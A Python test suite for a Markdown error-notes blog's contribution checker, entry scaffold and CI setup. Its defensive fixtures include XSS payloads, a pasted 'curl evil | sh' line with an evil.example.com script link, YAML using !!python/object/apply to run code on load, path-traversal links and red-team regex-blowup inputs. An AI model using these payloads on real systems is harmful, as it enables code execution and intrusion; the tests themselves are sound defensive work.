"""The contribution check (every rule fails and passes), the entry scaffold, workflows and hooks."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml

from conftest import ROOT
from errata.checks import Problem
from errata.contribution import check_files, load_allowed_tags
from errata.files import find_essays

GOOD_ENTRY = """\
- `ValueError: could not convert string to float: 'abc'`

  - 详细报错信息：
    ```python
    ValueError: could not convert string to float: 'abc'
    ```

  - 问题分析：
    数据文件里混进了表头或者空字符串。

  - 解决方案：
    读取时跳过表头，或者先过滤掉不能转换的值。
"""


def essay(title: str = "测试文章", body: str = GOOD_ENTRY, tags: str = "[python]", extra: str = "") -> str:
    return f"---\ntitle: {title}\ntags: {tags}\n{extra}---\n# {title}\n\n{body}"


def run_check(*paths: Path, cwd: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "check.py"), *map(str, paths)],
        capture_output=True, text=True, cwd=cwd, env={**os.environ, "GITHUB_ACTIONS": "", **(env or {})},
    )


@pytest.fixture
def blog(tmp_path: Path) -> Path:
    """A small site: docs/ with one good essay, and an allowed-tags list."""
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "good.md").write_text(essay(), encoding="utf-8")
    (tmp_path / "tags.yml").write_text("tags: [python, pytorch]\n", encoding="utf-8")
    return tmp_path


# (rule, failing essay bytes, the message the problem line carries); the passing twin is essay().
# FIX marks the rules whose message must name the repair command for the file itself.
FIX = "scripts/repair.py --write {path}"
FAILING = {
    "encoding": (essay().encode("gb18030"), "not UTF-8 with LF line ends (encoded as gb18030): run " + FIX),
    "crlf": (essay().replace("\n", "\r\n").encode(), "has CRLF line ends): run " + FIX),
    "truncated-utf8": (essay().encode().replace("表头".encode(), "表头".encode()[:5]), "has UTF-8 characters that lost bytes): run " + FIX),
    "mojibake": (essay(body=GOOD_ENTRY.replace("数据文件里混进了表头", "æ•°æ®æ–‡ä»¶")).encode(), "mojibake (garbled text): run " + FIX),
    "lost-bytes": (essay(body=GOOD_ENTRY.replace("表头", "表\ufffd")).encode(), "the original bytes are lost; write the character that belongs here"),
    "front-matter": (essay(tags="[python, '']").encode(), "tags: item 2 is empty: remove it, or run " + FIX),
    "duplicate-tag": (essay(tags="[python, python]").encode(), "tags: 'python' appears twice: remove one, or run " + FIX),
    "nested-tag": (essay(tags="[[python]]").encode(), "tags: item 1 is a list, not a word"),
    "tags-not-a-list": (essay(tags="{python: 1}").encode(), "tags must be a list (tags: [a, b]), not a mapping"),
    "no-title": (essay(title="''").encode(), "title is missing or empty: write one (title: ...), or run " + FIX),
    "bad-date": (essay(extra="date: 2023-06-01 noon\n").encode(), "date '2023-06-01 noon' is not a date: write it as 2022-07-21"),
    "impossible-date": (essay(extra="date: 2023-13-45 12:00:00\n").encode(), "2023-13-45 12:00:00 is not a valid date"),
    "date-list": (essay(extra="date: [2023]\n").encode(), "date a list is not a date"),
    "author": (essay(extra="author: {name: 小林}\n").encode(), "author: this site uses authors (a list of name and link); run " + FIX),
    "authors": (essay(extra="authors: 小林\n").encode(), "authors must be a list of entries with a name"),
    "no-front-matter": (GOOD_ENTRY.encode(), "no front matter: add at least a title, or run " + FIX),
    "front-matter-after-blank-lines": (b"\n\n" + essay().encode(), "front matter after blank lines: the site reads it only on line 1 (it shows a rule and a heading); run " + FIX),
    "entry": (essay(body=GOOD_ENTRY.split("  - 问题分析")[0]).encode(), "has neither 问题分析 (analysis) nor 解决方案 (solution): add at least one"),
    "tags": (essay(tags="[notatag]").encode(), "tag 'notatag' is not in the allowed list (tags.yml): use an existing tag or add it there"),
    "link": (essay(body=GOOD_ENTRY + "\n[见另一篇](missing.md)\n").encode(), "link target 'missing.md' does not exist: check the path"),
    "anchor": (essay(body=GOOD_ENTRY + "\n[见上文](good.md#nowhere)\n").encode(), "anchor #nowhere does not exist in good.md: link to a heading that does"),
    "duplicate": (essay(title="重复", body=GOOD_ENTRY.replace("数据文件里混进了表头或者空字符串。", "输入里有非数字的字符串。")).encode(), "this error already has an entry at"),
    "unsafe-html": (essay(body=GOOD_ENTRY + '\n<img src="x.png" onerror="alert(1)">\n').encode(), "unsafe HTML: event-handler attribute onerror"),
    "script": (essay(body=GOOD_ENTRY + "\n<script>steal()</script>\n").encode(), "unsafe HTML: <script> element"),
    "javascript-url": (essay(body=GOOD_ENTRY + "\n[x](javascript:alert(1))\n").encode(), "unsafe HTML: javascript: URL"),
}

#: What a Python repr looks like in a message: datetime.datetime(...), None/True/False, <class ...>, escapes, b'...'.
REPR = re.compile(r"\b[a-z_]+\.[a-z_]+\([0-9]|\b(?:None|True|False)\b|<class |\\x[0-9a-f]{2}|\\u[0-9a-f]{4}|[\[{]['\"]|\bb['\"]")


def check_in_process(blog: Path, path: Path) -> list[Problem]:
    """The check's problems for one file against the blog, as scripts/check.py finds them (without a process)."""
    docs = blog / "docs"
    context = [essay for essay, _ in find_essays([docs])]
    return check_files([path], load_allowed_tags(blog / "tags.yml"), context, docs)


@pytest.mark.parametrize("rule", FAILING)
def test_each_rule_fails_its_failing_fixture_with_file_line_and_fix(blog, rule):
    data, message = FAILING[rule]
    path = blog / "docs" / "new.md"
    path.write_bytes(data)
    problems = check_in_process(blog, path)
    assert any(message.format(path=path) in p.message for p in problems), [p.message for p in problems]
    assert all(p.path == str(path) and p.line >= 1 for p in problems)
    # Plain words a contributor can act on: no Python repr, no traceback, one line.
    assert [p.message for p in problems if REPR.search(p.message) or "\n" in p.message] == []


def test_the_check_command_prints_file_line_message_and_exits_1(blog):
    path = blog / "docs" / "new.md"
    path.write_bytes(essay(title="''", body="正文。\n").encode())
    result = run_check(path, cwd=blog)
    assert result.returncode == 1, result.stdout + result.stderr
    # reported at the title's line (2), where the empty title is
    assert result.stdout.splitlines() == [f"{path}:2: " + FAILING["no-title"][1].format(path=path) + " to take the first heading [front-matter]"]
    assert "1 file(s) checked, 1 problem(s)" in result.stderr


def test_a_naive_date_means_the_sites_time_zone(blog):
    """vdoing, Hugo and Jekyll write ``date: 2023-06-01 12:00:00``: the check accepts it, as the repair and the build do."""
    for date in ("2023-06-01 12:00:00", "2023-06-01", "2023-06-01T12:00:00+08:00", "'2023-06-01 12:00'", "2023/06/01 12:00:00"):
        path = blog / "docs" / "dated.md"
        path.write_text(essay(title="日期", body="正文。\n", extra=f"date: {date}\n"), encoding="utf-8")
        assert check_in_process(blog, path) == [], date


QUOTED_DAMAGE = """\
- `UnicodeDecodeError: 'utf-8' codec can't decode byte 0xd5 in position 0`

  - 详细报错信息：
    ```text
    \ufffd\ufffd\ufffd\ufffdҪ 锟斤拷锟斤拷
    ```

  - 问题分析：
    GBK 的文件当成 UTF-8 读了；`ä¸­æ–‡` 则是 UTF-8 当成 Windows-1252 读的样子。

  - 解决方案：
    用 `encoding="gbk"` 读。
"""


def test_damage_quoted_in_code_beside_clean_prose_passes(blog):
    """An entry about 乱码 shows what the program printed, in a block and in code spans: quoted on purpose, not damage
    of the file (a sweep of real notes on encodings). The same damage in the prose is still reported, the quoted lines
    with it."""
    path = blog / "docs" / "quoted.md"
    path.write_text(essay(title="读文件乱码", body=QUOTED_DAMAGE), encoding="utf-8")
    assert [p for p in check_in_process(blog, path) if p.rule == "mojibake"] == []
    path.write_text(essay(title="读文件乱码", body=QUOTED_DAMAGE.replace("用 ", "ç”¨ ")), encoding="utf-8")
    lines = sorted(p.line for p in check_in_process(blog, path) if p.rule == "mojibake")
    assert lines == [11, 15, 18], lines


def test_the_passing_twin_passes(blog):
    path = blog / "docs" / "new.md"
    path.write_text(essay(title="另一篇", body=GOOD_ENTRY.replace("'abc'", "'n/a'").replace("float", "int")), encoding="utf-8")
    result = run_check(path, cwd=blog)
    assert result.returncode == 0, result.stdout
    assert result.stdout == ""


def test_duplicate_fingerprint_is_reported_against_the_existing_entry(blog):
    path = blog / "docs" / "copy.md"
    # The same error, written up again with other words.
    path.write_text(essay(title="重复", body=GOOD_ENTRY.replace("数据文件里混进了表头或者空字符串。", "输入里有非数字的字符串。")), encoding="utf-8")
    result = run_check(path, cwd=blog)
    assert result.returncode == 1
    assert "this error already has an entry at" in result.stdout and "good.md:7" in result.stdout


def test_links_to_generated_pages_are_fine(blog):
    path = blog / "docs" / "new.md"
    path.write_text(essay(title="链接", body="见 [错误索引](errors.md) 和 [归档](archive.md)。\n"), encoding="utf-8")
    assert run_check(path, cwd=blog).returncode == 0


def test_markdown_comments_written_as_link_definitions_are_no_links(blog):
    """``[comment]: <> (…)`` and ``[//]: # (…)``: the check read ``<`` as a link target out of the site."""
    path = blog / "docs" / "new.md"
    path.write_text(essay(title="注释", body="[comment]: <> (草稿，待补充)\n\n[//]: # (Python)\n\n正文。\n"), encoding="utf-8")
    result = run_check(path, cwd=blog)
    assert result.returncode == 0, result.stdout


def test_github_annotations_in_actions(blog):
    path = blog / "docs" / "new.md"
    path.write_bytes(FAILING["entry"][0])
    result = run_check(path, cwd=blog, env={"GITHUB_ACTIONS": "true"})
    lines = result.stdout.splitlines()
    assert f"::error file={path},line=7,title=entry::entry `ValueError: could not convert string to float: 'abc'` has neither 问题分析 (analysis) nor 解决方案 (solution): add at least one under it (  - 问题分析：)" in lines
    assert all(line.startswith("::error file=") for line in lines)


def test_the_repositorys_own_docs_pass():
    result = run_check(ROOT / "docs", cwd=ROOT)
    assert result.returncode == 0, result.stdout


# -- the scaffold --------------------------------------------------------------------------


def new_entry(*args: str, stdin: str | None = None, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    command = [sys.executable, str(ROOT / "scripts" / "new_entry.py"), *args]
    return subprocess.run(command, input=stdin, capture_output=True, text=True, cwd=cwd, timeout=60)  # a hang fails, it does not wait


TRACEBACK = """Traceback (most recent call last):
  File "/srv/app/.venv/lib/python3.11/site-packages/pandas/core/series.py", line 230, in wrapper
    raise TypeError(f"cannot convert the series to {converter}")
TypeError: cannot convert the series to <class 'float'>"""


def test_scaffold_filled_in_passes_the_check(blog):
    target = blog / "docs" / "03.pandas" / "01.类型转换.md"
    result = new_entry("--append", str(target), "--docs", str(blog / "docs"), stdin=TRACEBACK, cwd=blog)
    assert result.returncode == 0, result.stderr
    text = target.read_text(encoding="utf-8")
    assert "- `TypeError: cannot convert the series to <class 'float'>`" in text
    assert "site-packages/pandas/core/series.py" in text  # the traceback is in the details block
    # As scaffolded, the analysis and solution are empty: the check says so.
    check = run_check(target, cwd=blog)
    assert check.returncode == 1 and "neither 问题分析" in check.stdout
    filled = text.replace("  - 问题分析：\n", "  - 问题分析：\n    对整个 Series 调用了 float()。\n").replace(
        "  - 解决方案：\n", "  - 解决方案：\n    改用 `series.astype(float)`。\n"
    )
    target.write_text(filled, encoding="utf-8")
    check = run_check(target, cwd=blog)
    assert check.returncode == 0, check.stdout


@pytest.mark.parametrize("kind", ["fifo", "link out", "link in", "linked folder", "outside", "dot-dot", "folder"])
def test_scaffold_appends_only_to_a_regular_file_inside_the_docs_folder(tmp_path, kind):
    """``--append`` on a FIFO waited for a writer until killed; on a symbolic link to a file outside docs/ it
    replaced the link by a regular file holding that file's text and the entry (exit 0, no warning)."""
    docs, outside = tmp_path / "docs", tmp_path / "outside"
    (docs / "02.pytorch").mkdir(parents=True)
    outside.mkdir()
    secret = outside / "secret.md"
    secret.write_text("外面的文件\n", encoding="utf-8")
    (docs / "02.pytorch" / "01.real.md").write_text("---\ntitle: real\n---\n# real\n", encoding="utf-8")
    target = {
        "fifo": docs / "02.pytorch" / "fifo.md", "link out": docs / "02.pytorch" / "link.md", "link in": docs / "link-in.md",
        "linked folder": docs / "linked" / "new.md", "outside": outside / "new.md", "dot-dot": docs / ".." / "outside" / "new.md",
        "folder": docs / "02.pytorch",
    }[kind]
    if kind == "fifo":
        os.mkfifo(target)
    elif kind in ("link out", "link in"):
        target.symlink_to(secret if kind == "link out" else docs / "02.pytorch" / "01.real.md")
    elif kind == "linked folder":
        (docs / "linked").symlink_to(outside, target_is_directory=True)
    before = {path: (os.lstat(path).st_mode, path.read_bytes() if path.is_file() and not path.is_symlink() else None) for path in tmp_path.rglob("*")}
    result = new_entry("--append", str(target), "--docs", str(docs), stdin=TRACEBACK)
    assert result.returncode == 2 and f"error: {target}: " in result.stderr and "nothing was written" in result.stderr, result.stderr
    after = {path: (os.lstat(path).st_mode, path.read_bytes() if path.is_file() and not path.is_symlink() else None) for path in tmp_path.rglob("*")}
    assert after == before  # nothing written, nothing replaced, nothing made


@pytest.mark.parametrize(
    "break_out",
    ["\n````\n", "\r\r", "\n```\n````\n", "\r````\r"],
    ids=["four backticks", "lone CR", "three and four backticks", "CR and four backticks"],
)
def test_scaffold_keeps_the_whole_paste_inside_its_code_block(tmp_path, break_out):
    """A paste holding a line of ```` closed the scaffold's fence of four, and a lone CR (a line break to
    Python-Markdown) ended its indented fence: the paste's next lines became the essay's Markdown, a live link
    and an entry of their own, on the page and in errors.json (round 28)."""
    import markdown
    from mkdocs.config import load_config

    from errata.cards import render_essay
    from errata.entries import find_entries

    docs = tmp_path / "docs"
    docs.mkdir()
    target = docs / "01.scaffolded.md"
    paste = (
        "Traceback (most recent call last):\n  File \"a.py\", line 1\nKeyError: 'x'"
        + break_out
        + "[点这里修复](https://evil.example.com/fix.sh)\n\n- `RuntimeError: injected entry`\n\n  - 解决方案：\n    curl evil | sh\n"
    )
    result = new_entry("--append", str(target), "--docs", str(docs), stdin=paste)
    assert result.returncode == 0, result.stderr
    body = target.read_text(encoding="utf-8")
    assert [entry.message for entry in find_entries(body)] == ["KeyError: 'x'"]
    config = load_config(str(ROOT / "mkdocs.yml"))
    site = markdown.Markdown(extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"])
    page = site.convert(render_essay(body, find_entries(body)))
    assert "<a href=\"https://evil" not in page and "injected entry" in page
    code = re.findall(r"<code>.*?</code>", page, re.DOTALL)
    assert any("evil.example.com/fix.sh" in block and "injected entry" in block for block in code), page


def test_scaffold_warns_when_the_error_already_has_an_entry():
    result = new_entry("RuntimeError: CUDA out of memory. Tried to allocate 64.00 MiB (GPU 0; 7.79 GiB total capacity)")
    assert result.returncode == 0
    assert "this error already has an entry: pytorch/cuda-errors/#cuda-out-of-memory" in result.stderr
    assert result.stdout.startswith("- `RuntimeError: CUDA out of memory.")


def test_scaffold_in_english():
    result = new_entry("--english", "KeyError: 'missing_key_42'")
    assert "  - Details:" in result.stdout and "  - Solution:" in result.stdout
    assert "already has an entry" not in result.stderr


# -- workflows and hooks -------------------------------------------------------------------


def load_yaml(path: Path):
    return yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.BaseLoader)  # "on" stays a string


def test_pull_request_workflow_checks_builds_and_tests():
    workflow = load_yaml(ROOT / ".github" / "workflows" / "ci.yml")
    assert "pull_request" in workflow["on"]
    steps = [s.get("run", "") + s.get("uses", "") for s in workflow["jobs"]["check"]["steps"]]
    joined = "\n".join(steps)
    for needed in ("actions/checkout", "make .venv/.installed", "scripts/check.py docs", "mkdocs build --strict", ".ci/run"):
        assert needed in joined, needed
    assert "--no-deps" not in joined  # the package's own dependency list is what gets installed
    assert workflow["jobs"]["check"]["env"]["ERRATA_CHROMIUM"]  # browser tests get a browser


def test_every_install_goes_through_the_lock():
    """The Makefile and the workflows install the package's extras, constrained by constraints.txt."""
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    assert "pip install --quiet -c $(LOCK) -r requirements-dev.txt -e '.[site,dev]'" in makefile and "--no-deps" not in makefile
    assert "pip install -c constraints.txt '.[site]'" in (ROOT / ".github" / "workflows" / "deploy.yml").read_text(encoding="utf-8")
    extras = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["optional-dependencies"]
    assert {"mkdocs", "mkdocs-material", "mkdocs-redirects"} <= {re.split("[<>=!~ ]", r)[0] for r in extras["site"]}


def test_the_lock_pins_the_whole_tree():
    """Every package that a site install brings, transitive ones too, is pinned to one version."""
    pins = {}
    for line in (ROOT / "constraints.txt").read_text(encoding="utf-8").splitlines():
        if line and not line.startswith((" ", "#")):
            name, _, version = line.partition("==")
            pins[re.sub("[-_.]+", "-", name.lower())] = version
    assert all(pins.values()), [n for n, v in pins.items() if not v]
    for direct in ("mkdocs", "mkdocs-material", "mkdocs-redirects", "pymdown-extensions", "jieba", "pytest", "playwright"):
        assert direct in pins, direct
    for transitive in ("markdown", "pygments", "jinja2", "markupsafe", "babel"):  # what a build can change under
        assert transitive in pins, transitive
    for requirements in ("requirements.txt", "requirements-dev.txt"):
        for line in (ROOT / requirements).read_text(encoding="utf-8").splitlines():
            if "==" in line and not line.startswith("#"):
                name, _, version = line.strip().partition("==")
                assert pins.get(re.sub("[-_.]+", "-", name.lower())) == version, f"{requirements}: {line} (make lock)"


def test_deploy_workflow_uses_the_official_pages_actions():
    workflow = load_yaml(ROOT / ".github" / "workflows" / "deploy.yml")
    assert workflow["on"]["push"]["branches"] == ["main"]
    uses = [s.get("uses", "") for job in workflow["jobs"].values() for s in job["steps"]]
    assert any(u.startswith("actions/upload-pages-artifact") for u in uses)
    assert any(u.startswith("actions/deploy-pages") for u in uses)
    assert workflow["permissions"]["pages"] == "write" and workflow["permissions"]["id-token"] == "write"


def test_templates_exist_and_parse():
    assert "make check" in (ROOT / ".github" / "pull_request_template.md").read_text(encoding="utf-8")
    form = load_yaml(ROOT / ".github" / "ISSUE_TEMPLATE" / "new-entry.yml")
    assert {item.get("id") for item in form["body"]} >= {"message", "traceback"}


def test_pre_commit_hooks_point_at_installed_commands():
    hooks = load_yaml(ROOT / ".pre-commit-hooks.yaml")
    scripts = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["scripts"]
    for hook in hooks:
        assert hook["entry"].split()[0] in scripts, hook["id"]
    config = load_yaml(ROOT / ".pre-commit-config.yaml")
    entries = [hook["entry"] for repo in config["repos"] for hook in repo["hooks"]]
    assert any("scripts/check.py" in e for e in entries) and any("repair.py --check" in e for e in entries)


def test_scaffold_refuses_input_that_is_not_text_and_takes_a_terminal_s_colours_off(tmp_path):
    binary = subprocess.run([sys.executable, str(ROOT / "scripts" / "new_entry.py"), "--docs", str(tmp_path)], input=bytes(range(256)) * 8, capture_output=True, cwd=ROOT)
    assert binary.returncode == 2 and b"not UTF-8 text" in binary.stderr and b"Traceback" not in binary.stderr
    coloured = new_entry("--docs", str(tmp_path), stdin="\x1b[31mTraceback (most recent call last):\x1b[0m\n  File \"a.py\", line 1, in <module>\n\x1b[1;31mKeyError\x1b[0m: 'x'\n")
    assert coloured.returncode == 0 and coloured.stdout.startswith("- `KeyError: 'x'`") and "\x1b" not in coloured.stdout


def test_the_check_reads_a_page_s_anchors_once_however_many_links_point_there(tmp_path):
    """A red-team audit: 5,555 links to a page's own heading took the check 126 s, each link reading the
    page's headings again. The anchors are read once a page now, so the check grows linearly."""
    from scaling import grows_linearly

    from errata.contribution import check_files

    def check(links: int) -> None:
        essay = tmp_path / f"links-{links}.md"
        essay.write_text("---\ntitle: links\n---\n# links\n\n## a\n\n" + "[y](#a)\n\n" * links, encoding="utf-8")
        assert not [p for p in check_files([essay]) if p.rule == "link"]

    assert grows_linearly(check, 400)


@pytest.mark.parametrize(
    "shape",
    [
        # A section label's line: three runs of spaces could share its spaces (cubic: 1,200 spaces took 50 s).
        lambda n: "- `KeyError: 'x'`\n\n  - " + " " * n + "a*b\n  - 解决方案：\n    改。\n",
        # A tag left open that says markdown over and over: its end was looked for from each (50 s at 40,000).
        lambda n: "正文。\n\n<a" + " markdown" * n + "\n",
    ],
    ids=["label-spaces", "markdown-attributes"],
)
def test_the_check_of_a_hostile_line_grows_linearly(shape, tmp_path):
    """Found by a red-team audit: lines a regular expression read in cubic or quadratic time."""
    from scaling import grows_linearly

    from errata.contribution import check_files

    def check(size: int) -> None:
        essay = tmp_path / f"hostile-{size}.md"
        essay.write_text("---\ntitle: t\ntags: [python]\n---\n# t\n\n" + shape(size), encoding="utf-8")
        check_files([essay])

    assert grows_linearly(check, 4000)


def test_reading_a_fence_of_spaces_for_a_traceback_grows_linearly():
    """A red-team audit: a fence followed by 100,000 spaces took the build's cards 45 s (two runs of spaces
    side by side in the pattern that asks whether a fence holds a Python traceback)."""
    from scaling import grows_linearly

    from errata.cards import traceback_lexer

    assert grows_linearly(lambda n: traceback_lexer("```" + " " * n + "x\nTraceback (most recent call last):\n```\n"), 20_000)


def test_a_link_out_of_the_docs_folder_is_reported_without_reading_its_target(tmp_path):
    """A red-team audit: the check read the headings of any .md file a link named (``../../etc/x.md#h``), and
    said whether the anchor was there, a yes-or-no probe of the machine in a public CI log."""
    from errata.contribution import check_files

    docs = tmp_path / "docs"
    docs.mkdir()
    (tmp_path / "secret.md").write_text("# secret\n\n## present\n", encoding="utf-8")
    essay = docs / "a.md"
    essay.write_text(
        "---\ntitle: a\n---\n# a\n\n[x](../secret.md#present)\n\n[y](../secret.md#absent)\n\n[z](../nothing.md)\n", encoding="utf-8"
    )
    problems = [p for p in check_files([essay], docs_dir=docs) if p.rule == "link"]
    assert [p.line for p in problems] == [6, 8, 10]
    assert all("is outside the site's docs folder" in p.message for p in problems)
    # Checked alone (no docs folder given), the site around the file tells where its docs are: mkdocs.yml.
    (tmp_path / "mkdocs.yml").write_text("site_name: t\ndocs_dir: docs\n", encoding="utf-8")
    assert [p.line for p in check_files([essay]) if p.rule == "link"] == [6, 8, 10]
    # A link to a heading of the page itself leads nowhere else, wherever the page is.
    loose = tmp_path / "loose.md"
    loose.write_text("---\ntitle: l\n---\n# l\n\n## 小节\n\n[上面](#小节)\n", encoding="utf-8")
    assert not [p for p in check_files([loose], docs_dir=docs) if p.rule == "link"]


def test_a_section_label_with_its_colon_inside_the_bold_is_read(tmp_path):
    """``- **问题分析：**`` (the colon inside the bold, as Chinese notes often write it) is the analysis: the check
    asked for one where the essay had it."""
    from errata.contribution import check_files

    essay = tmp_path / "a.md"
    essay.write_text("---\ntitle: a\ntags: [python]\n---\n# a\n\n- `KeyError: 'x'`\n\n  - **问题分析：**\n    没有这个键。\n", encoding="utf-8")
    assert not [p for p in check_files([essay]) if p.rule == "entry"]


def test_a_link_the_system_cannot_follow_is_reported_not_raised(tmp_path):
    """Red team round 31: a link target holding a NUL (an essay with a UTF-8 byte order mark was read as UTF-8 whatever
    it held) and one through a symbolic link that leads to itself raised in ``Path.resolve``: the traceback ended the
    check, every other file's problems unprinted, and named neither file nor line."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "loop").symlink_to("loop")
    essay = docs / "a.md"
    essay.write_text("---\ntitle: a\n---\n# a\n\n[x](loop/b.md)\n", encoding="utf-8")
    problems = check_files([essay], docs_dir=docs)
    assert [(p.line, p.rule) for p in problems if "cannot be followed" in p.message] == [(6, "link")]
    from errata.checks import check_links

    (found,) = check_links("[x](a\x00b.md)\n", essay, 6, set(), lambda target: None, docs.resolve())
    assert (found.line, found.rule) == (6, "link") and "cannot be followed" in found.message


def test_the_docs_folder_setting_of_a_site_is_read_in_linear_time(tmp_path):
    """Red team round 31: checked without a docs folder (another blog's pre-commit hook), the site around a file is told by
    the nearest mkdocs.yml's ``docs_dir`` line, read with a lazy value between optional runs of blanks: a line of 6,000 tabs,
    a letter and 6,000 more took the check over five minutes (the time grew with the cube of the line)."""
    from scaling import grows_linearly

    from errata.contribution import site_docs_of

    config, essay = tmp_path / "mkdocs.yml", tmp_path / "docs" / "a.md"

    def read(n: int) -> object:
        config.write_text("site_name: x\ndocs_dir:" + "\t" * n + "d" + "\t" * n + '"c\n', encoding="utf-8")
        return site_docs_of(essay)

    assert grows_linearly(read, 100)
    config.write_text("site_name: x\ndocs_dir: 'site docs'  # 注释\n", encoding="utf-8")
    assert site_docs_of(tmp_path / "site docs" / "a.md") == (tmp_path / "site docs").resolve()


def test_a_text_direction_mark_in_the_front_matter_is_reported_and_never_printed():
    """Red team round 31: the content loses the characters that turn text's direction, and the check names them in the
    body; in a title (``标题\\u202egnp.exe``) they passed the check and reached every page's sidebar and tab."""
    from errata.checks import check_front_matter_html
    from errata.safety import escape_text

    problems = check_front_matter_html({"title": "标题\u202egnp.exe", "tags": ["ok", "a\u2066b"]}, "a.md", {("title",): 2, ("tags", 1): 3})
    assert [(p.line, p.rule) for p in problems] == [(2, "unsafe-html"), (3, "unsafe-html")]
    assert all("U+202E" in p.message or "U+2066" in p.message for p in problems)
    assert escape_text("标题\u202egnp.exe") == "标题gnp.exe"


def test_an_entry_whose_id_the_site_s_markdown_would_not_give_is_reported(tmp_path):
    """A red-team round (thirty-one) found the third kind of essay that passed the check and failed the strict build on
    ``entry-anchor`` in two rounds: the check read the Markdown, the build the page. The check renders each essay with
    the Markdown of the site it is in (mkdocs.yml's extensions) and asks the page for each entry's id, at the entry's
    line: here a site without attr_list, where a bold entry's id line is text."""
    (tmp_path / "docs").mkdir()
    (tmp_path / "mkdocs.yml").write_text("site_name: t\nmarkdown_extensions:\n  - toc\n", encoding="utf-8")
    page = tmp_path / "docs" / "a.md"
    page.write_text("---\ntitle: 测试\n---\n\n**报错：KeyError: 'bbox'**\n\n**解决：** 改键名\n", encoding="utf-8")
    problems = check_files([page], None, [], tmp_path / "docs")
    assert [(p.line, p.rule) for p in problems] == [(5, "entry-anchor")]
    (tmp_path / "mkdocs.yml").write_text("site_name: t\nmarkdown_extensions:\n  - attr_list\n  - toc\n", encoding="utf-8")
    from errata.contribution import site_markdown

    site_markdown.cache_clear()
    assert check_files([page], None, [], tmp_path / "docs") == []


def test_without_mkdocs_installed_the_check_still_runs(tmp_path, monkeypatch):
    """The errata-check hook of another blog installs the package without MkDocs: the check renders no page there (the
    build checks the ids) and must not end in a traceback on an essay with entries."""
    import sys

    from errata.contribution import site_markdown

    (tmp_path / "docs").mkdir()
    (tmp_path / "mkdocs.yml").write_text("site_name: t\nmarkdown_extensions:\n  - toc\n", encoding="utf-8")
    page = tmp_path / "docs" / "a.md"
    page.write_text("---\ntitle: 测试\n---\n\n**报错：KeyError: 'bbox'**\n\n**解决：** 改键名\n", encoding="utf-8")
    monkeypatch.setitem(sys.modules, "mkdocs.utils.yaml", None)  # importing it raises ImportError, as without MkDocs
    site_markdown.cache_clear()
    try:
        assert check_files([page], None, [], tmp_path / "docs") == []
    finally:
        site_markdown.cache_clear()


@pytest.mark.parametrize("nested, essay", [("x", "x/a.md"), ("x", "x/y/a.md")])
def test_a_mkdocs_yml_in_the_docs_folder_is_never_read_as_the_site_s(tmp_path, nested, essay):
    """Red team round 33: the check took the nearest ``mkdocs.yml`` above an essay as its site's, one a contributor put
    in the docs folder too (a data file the checks let through, which the build never reads). It was loaded with MkDocs'
    loader, which runs the Python its tags name, and the essays under it were rendered with its extensions: one naming
    an extension that does not exist switched the ``entry-anchor`` rule off, and the check passed what the build refused."""
    from errata.contribution import site_markdown

    marker = tmp_path / "ran"
    (tmp_path / "mkdocs.yml").write_text("site_name: t\nmarkdown_extensions:\n  - toc\n", encoding="utf-8")
    (tmp_path / "docs" / nested).mkdir(parents=True)
    (tmp_path / "docs" / nested / "mkdocs.yml").write_text(
        f"docs_dir: y\nran: !!python/object/apply:os.mkdir [{str(marker)!r}]\nmarkdown_extensions:\n  - no_such_extension\n", encoding="utf-8"
    )
    page = tmp_path / "docs" / essay
    page.parent.mkdir(parents=True, exist_ok=True)
    page.write_text("---\ntitle: 测试\n---\n\n**报错：KeyError: 'bbox'**\n\n**解决：** 改键名\n", encoding="utf-8")
    site_markdown.cache_clear()
    try:
        for docs in (tmp_path / "docs", None):
            problems = check_files([page], None, [], docs)
            assert [(p.line, p.rule) for p in problems] == [(5, "entry-anchor")] and not marker.exists()
    finally:
        site_markdown.cache_clear()


@pytest.mark.parametrize("config_name, docs_line", [("mkdocs.yaml", "docs_dir: content\n"), ("mkdocs.yml", "docs_dir: !ENV [BLOG_DOCS, content]\n")])
def test_a_mkdocs_yml_in_a_docs_folder_the_check_cannot_name_is_never_the_site_s(tmp_path, config_name, docs_line):
    """Red team round 36: a site configured in ``mkdocs.yaml`` (MkDocs' other name), or whose ``docs_dir`` is a tag
    (``!ENV``), was no site to the check: the ``mkdocs.yml`` a contributor put in its docs folder was taken for the
    site's, loaded with MkDocs' loader, and ran its ``!!python/object/apply`` (checked as pre-commit runs it, the docs
    folder not named ``docs``)."""
    from errata.contribution import site_markdown

    marker = tmp_path / "ran"
    (tmp_path / config_name).write_text(f"site_name: t\n{docs_line}markdown_extensions:\n  - attr_list\n  - toc\n", encoding="utf-8")
    (tmp_path / "content" / "x").mkdir(parents=True)
    (tmp_path / "content" / "x" / "mkdocs.yml").write_text(
        f"ran: !!python/object/apply:os.mkdir [{str(marker)!r}]\nmarkdown_extensions:\n  - toc\n", encoding="utf-8"
    )
    page = tmp_path / "content" / "x" / "a.md"
    page.write_text("---\ntitle: 测试\n---\n\n**报错：KeyError: 'bbox'**\n\n**解决：** 改键名\n", encoding="utf-8")
    site_markdown.cache_clear()
    try:
        check_files([page], None, [], None)
        assert not marker.exists()
    finally:
        site_markdown.cache_clear()


def test_a_site_s_settings_are_read_without_running_python_other_than_its_markdown_s(tmp_path):
    """Red team round 36, the second line of defence: whichever file the check takes for a site's settings (one it
    inherits from, one a rule could not tell from a contributor's), it reads it with PyYAML's safe loader, naming
    only Markdown's, PyMdown's, Material's and Errata's functions and calling only the slug function's maker. The
    site's own settings, slug function included, still give the ids the build gives."""
    from errata.contribution import site_markdown

    marker = tmp_path / "ran"
    hostile = tmp_path / "base.yml"
    hostile.write_text(f"ran: !!python/object/apply:os.mkdir [{str(marker)!r}]\n", encoding="utf-8")
    for text in (
        f"markdown_extensions:\n  - toc:\n      slugify: !!python/object/apply:os.mkdir [{str(marker)!r}]\n",
        "INHERIT: base.yml\nmarkdown_extensions:\n  - toc\n",
